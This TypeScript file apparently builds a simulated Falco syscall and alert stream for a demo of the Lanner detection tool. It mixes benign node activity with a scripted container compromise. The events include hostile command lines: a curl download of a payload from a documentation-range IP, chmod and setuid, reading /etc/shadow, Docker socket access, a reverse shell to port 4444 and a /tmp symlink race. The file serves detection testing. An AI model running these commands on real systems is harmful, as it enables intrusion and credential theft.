/**
 * The demo's story, written for Lanner: a web shop's checkout pod is entered with
 * `kubectl exec`, a payload is fetched into /tmp, made executable and run, it reads
 * /etc/shadow, gets the setuid bit, reaches the node's Docker socket and opens a reverse shell;
 * meanwhile a local user on the node races a root cron job through a symlink in /tmp. Around it
 * runs what a busy node always does: health probes, database connections, log writes, a cron
 * job, a package manager on the host.
 *
 * Events are Falco JSON output objects, as Falco's http_output would post them: raw syscall
 * events from Lanner's feed rules (tag `lanner_feed`) and Falco's own alerts.
 */
import { formatRfc3339Ns } from '../core/time.js';

export interface ScenarioEvent {
  /** Milliseconds after the scenario starts. */
  readonly at: number;
  /** The event in Falco's JSON output shape; `evt.time` is a bigint. */
  readonly json: Record<string, unknown>;
}

const NODE = 'worker-2';

interface Workload {
  readonly ns: string | null;
  readonly pod: string | null;
  readonly id: string;
  readonly name: string;
  readonly repo: string | null;
  readonly tag: string | null;
}

const CHECKOUT: Workload = {
  ns: 'shop',
  pod: 'checkout-6d8f9c7b5-x2lqp',
  id: '3f2a9c1e7b44',
  name: 'checkout',
  repo: 'registry.example.com/shop/checkout',
  tag: '1.8.2',
};
const FRONTEND: Workload = {
  ns: 'shop',
  pod: 'frontend-5b7c9d-9qk2m',
  id: '8c1d2e3f4a5b',
  name: 'nginx',
  repo: 'docker.io/library/nginx',
  tag: '1.27.3',
};
const HOST: Workload = { ns: null, pod: null, id: 'host', name: 'host', repo: null, tag: null };

interface Proc {
  readonly pid: number;
  readonly ppid: number;
  readonly name: string;
  readonly exepath: string;
  readonly cmdline: string;
  readonly pname: string;
  readonly pcmdline: string;
  readonly user: string;
  readonly uid: number;
  readonly tty?: number;
}

function baseFields(w: Workload, p: Proc, evtTime: bigint, type: string): Record<string, unknown> {
  return {
    'evt.time': evtTime,
    'evt.type': type,
    'evt.res': 'SUCCESS',
    'proc.pid': p.pid,
    'proc.ppid': p.ppid,
    'proc.name': p.name,
    'proc.exepath': p.exepath,
    'proc.cmdline': p.cmdline,
    'proc.pname': p.pname,
    'proc.pcmdline': p.pcmdline,
    'proc.tty': p.tty ?? 0,
    'user.uid': p.uid,
    'user.name': p.user,
    'user.loginuid': -1,
    'container.id': w.id,
    'container.name': w.name,
    'container.image.repository': w.repo,
    'container.image.tag': w.tag,
    'k8s.ns.name': w.ns,
    'k8s.pod.name': w.pod,
  };
}

/** Builds the scenario with event times starting at `startNs`. */
export function buildScenario(startNs: bigint): ScenarioEvent[] {
  const events: ScenarioEvent[] = [];
  const timeAt = (at: number): bigint => startNs + BigInt(at) * 1_000_000n + BigInt(events.length * 1_337);

  const feed = (at: number, type: string, w: Workload, p: Proc, extra: Record<string, unknown>, summary: string): void => {
    const t = timeAt(at);
    events.push({
      at,
      json: {
        hostname: NODE,
        time: formatRfc3339Ns(t),
        rule: `Lanner feed: ${type}`,
        priority: 'Debug',
        source: 'syscall',
        tags: ['lanner_feed'],
        output: `${formatRfc3339Ns(t)} Debug ${type} (${summary} proc=${p.name} container=${w.name})`,
        output_fields: { ...baseFields(w, p, t, type), ...extra },
      },
    });
  };

  const falco = (at: number, rule: string, priority: string, tags: string[], w: Workload, p: Proc, extra: Record<string, unknown>, text: string): void => {
    const t = timeAt(at);
    const where = w.pod ? ` container_id=${w.id} container_name=${w.name} k8s_pod_name=${w.pod} k8s_ns_name=${w.ns}` : ' container_id=host';
    events.push({
      at,
      json: {
        hostname: NODE,
        time: formatRfc3339Ns(t),
        rule,
        priority,
        source: 'syscall',
        tags,
        output: `${formatRfc3339Ns(t).slice(11, 29)}: ${priority} ${text} | user=${p.user} user_uid=${p.uid} process=${p.name} parent=${p.pname} command=${p.cmdline}${where}`,
        output_fields: { ...baseFields(w, p, t, String(extra['evt.type'] ?? 'execve')), ...extra },
      },
    });
  };

  const nginx: Proc = { pid: 4101, ppid: 4100, name: 'nginx', exepath: '/usr/sbin/nginx', cmdline: 'nginx: worker process', pname: 'nginx', pcmdline: 'nginx: master process nginx -g daemon off;', user: 'nginx', uid: 101 };
  const node: Proc = { pid: 7212, ppid: 7190, name: 'node', exepath: '/usr/local/bin/node', cmdline: 'node dist/server.js', pname: 'tini', pcmdline: 'tini -- node dist/server.js', user: 'app', uid: 1000 };
  const probe: Proc = { pid: 7301, ppid: 7290, name: 'wget', exepath: '/usr/bin/wget', cmdline: 'wget -q -O- http://127.0.0.1:8080/healthz', pname: 'runc', pcmdline: 'runc exec', user: 'app', uid: 1000 };
  const logrotate: Proc = { pid: 9120, ppid: 9101, name: 'logrotate', exepath: '/usr/sbin/logrotate', cmdline: 'logrotate /etc/logrotate.conf', pname: 'cron', pcmdline: '/usr/sbin/cron -f', user: 'root', uid: 0 };
  const apt: Proc = { pid: 9211, ppid: 9200, name: 'dpkg', exepath: '/usr/bin/dpkg', cmdline: 'dpkg --configure -a', pname: 'apt-get', pcmdline: 'apt-get -y upgrade', user: 'root', uid: 0 };
  const shell: Proc = { pid: 7400, ppid: 7399, name: 'sh', exepath: '/bin/busybox', cmdline: 'sh', pname: 'runc', pcmdline: 'runc exec -t checkout', user: 'root', uid: 0, tty: 34816 };
  const curl: Proc = { pid: 7411, ppid: 7400, name: 'curl', exepath: '/usr/bin/curl', cmdline: 'curl -s http://198.51.100.23:8000/k.sh -o /tmp/.k', pname: 'sh', pcmdline: 'sh', user: 'root', uid: 0, tty: 34816 };
  const chmod: Proc = { pid: 7415, ppid: 7400, name: 'chmod', exepath: '/bin/busybox', cmdline: 'chmod +x /tmp/.k', pname: 'sh', pcmdline: 'sh', user: 'root', uid: 0, tty: 34816 };
  const payload: Proc = { pid: 7420, ppid: 7400, name: '.k', exepath: '/tmp/.k', cmdline: '/tmp/.k', pname: 'sh', pcmdline: 'sh', user: 'root', uid: 0, tty: 34816 };
  const cat: Proc = { pid: 7431, ppid: 7420, name: 'cat', exepath: '/bin/busybox', cmdline: 'cat /etc/shadow', pname: '.k', pcmdline: '/tmp/.k', user: 'root', uid: 0, tty: 34816 };
  const setuidChmod: Proc = { pid: 7425, ppid: 7400, name: 'chmod', exepath: '/bin/busybox', cmdline: 'chmod 4755 /tmp/.k', pname: 'sh', pcmdline: 'sh', user: 'root', uid: 0, tty: 34816 };
  const mallory: Proc = { pid: 9301, ppid: 9290, name: 'ln', exepath: '/usr/bin/ln', cmdline: 'ln -s /etc/shadow /tmp/report.txt', pname: 'bash', pcmdline: '-bash', user: 'mallory', uid: 1000 };
  const backup: Proc = { pid: 9320, ppid: 9101, name: 'backup-agent', exepath: '/usr/local/bin/backup-agent', cmdline: '/usr/local/bin/backup-agent --report /tmp/report.txt', pname: 'cron', pcmdline: '/usr/sbin/cron -f', user: 'root', uid: 0 };
  const revsh: Proc = { pid: 7440, ppid: 7420, name: 'sh', exepath: '/bin/busybox', cmdline: 'sh -i', pname: '.k', pcmdline: '/tmp/.k', user: 'root', uid: 0 };

  const tcp = (sip: string, sport: number, cip: string, cport: number): Record<string, unknown> => ({
    'fd.type': 'ipv4',
    'fd.l4proto': 'tcp',
    'fd.sip': sip,
    'fd.sport': sport,
    'fd.cip': cip,
    'fd.cport': cport,
    'fd.name': `${cip}:${cport}->${sip}:${sport}`,
  });
  const file = (path: string, flags: string): Record<string, unknown> => {
    const slash = path.lastIndexOf('/');
    return { 'fd.type': 'file', 'fd.name': path, 'fd.directory': path.slice(0, slash) || '/', 'fd.filename': path.slice(slash + 1), 'evt.arg.flags': flags };
  };

  // Benign background: what stays silent.
  feed(0, 'execve', CHECKOUT, probe, {}, 'liveness probe');
  feed(150, 'connect', CHECKOUT, node, tcp('10.96.12.40', 5432, '10.244.2.17', 41822), 'database');
  feed(300, 'openat', FRONTEND, nginx, file('/var/log/nginx/access.log', 'O_WRONLY|O_APPEND|O_CLOEXEC'), 'access log');
  feed(450, 'execve', HOST, logrotate, {}, 'cron job');
  feed(600, 'execve', HOST, apt, {}, 'package manager');
  feed(750, 'openat', HOST, apt, file('/var/lib/dpkg/status', 'O_RDONLY'), 'package database');
  feed(900, 'connect', CHECKOUT, node, tcp('10.96.0.10', 53, '10.244.2.17', 53001), 'DNS');

  // The attack.
  feed(1500, 'execve', CHECKOUT, shell, {}, 'interactive shell');
  falco(1500, 'Terminal shell in container', 'Notice', ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'], CHECKOUT, shell, { 'evt.type': 'execve' }, 'A shell was spawned in a container with an attached terminal');
  feed(1700, 'execve', CHECKOUT, probe, {}, 'liveness probe');
  feed(2100, 'execve', CHECKOUT, curl, {}, 'download');
  feed(2300, 'connect', CHECKOUT, curl, tcp('198.51.100.23', 8000, '10.244.2.17', 50312), 'download');
  feed(2500, 'openat', CHECKOUT, curl, file('/tmp/.k', 'O_WRONLY|O_CREAT|O_TRUNC'), 'payload written');
  feed(2800, 'chmod', CHECKOUT, chmod, { 'evt.arg.filename': '/tmp/.k', 'evt.arg.mode': '0755' }, 'made executable');
  feed(3000, 'execve', CHECKOUT, payload, {}, 'payload run');
  falco(3000, 'Drop and execute new binary in container', 'Critical', ['T1059', 'container', 'maturity_stable', 'mitre_persistence', 'process'], CHECKOUT, payload, { 'evt.type': 'execve', 'proc.is_exe_upper_layer': true }, 'Executing binary not part of base image');
  feed(3300, 'openat', CHECKOUT, cat, file('/etc/shadow', 'O_RDONLY'), 'credential read');
  falco(3300, 'Read sensitive file untrusted', 'Warning', ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access'], CHECKOUT, cat, { 'evt.type': 'openat', ...file('/etc/shadow', 'O_RDONLY') }, 'Sensitive file opened for reading by non-trusted program (file=/etc/shadow)');
  feed(3350, 'connect', CHECKOUT, node, tcp('10.96.12.40', 5432, '10.244.2.17', 41830), 'database');
  feed(3400, 'fchmodat', CHECKOUT, setuidChmod, { 'evt.arg.filename': '/tmp/.k', 'evt.arg.mode': 'S_ISUID|S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH' }, 'setuid bit set');
  feed(3500, 'connect', CHECKOUT, payload, { 'fd.type': 'unix', 'fd.num': 3, 'fd.name': 'ffff9a4c1d2e3f00->ffff9a4c1d2e4100 /var/run/docker.sock' }, 'container runtime socket');
  // Meanwhile on the node: a local user plants a symlink in /tmp, and a root cron job follows it.
  feed(3600, 'symlinkat', HOST, mallory, { 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': '/tmp/report.txt' }, 'symlink planted');
  feed(3700, 'connect', CHECKOUT, revsh, tcp('203.0.113.50', 4444, '10.244.2.17', 50340), 'outbound 4444');
  feed(3750, 'dup2', CHECKOUT, revsh, { 'evt.arg.fd': '0', 'fd.num': 0, ...tcp('203.0.113.50', 4444, '10.244.2.17', 50340) }, 'socket onto stdin');
  falco(3750, 'Redirect STDOUT/STDIN to Network Connection in Container', 'Notice', ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'network', 'process'], CHECKOUT, revsh, { 'evt.type': 'dup2', ...tcp('203.0.113.50', 4444, '10.244.2.17', 50340) }, 'Redirect stdout/stdin to network connection (fd.sip=203.0.113.50 fd.sport=4444)');
  feed(4200, 'execve', CHECKOUT, probe, {}, 'liveness probe');
  feed(4300, 'openat', HOST, backup, { ...file('/tmp/report.txt', 'O_TRUNC|O_CREAT|O_WRONLY'), 'evt.arg.mode': '0644' }, 'root follows the link');
  feed(4400, 'openat', FRONTEND, nginx, file('/var/log/nginx/access.log', 'O_WRONLY|O_APPEND|O_CLOEXEC'), 'access log');
  return events;
}
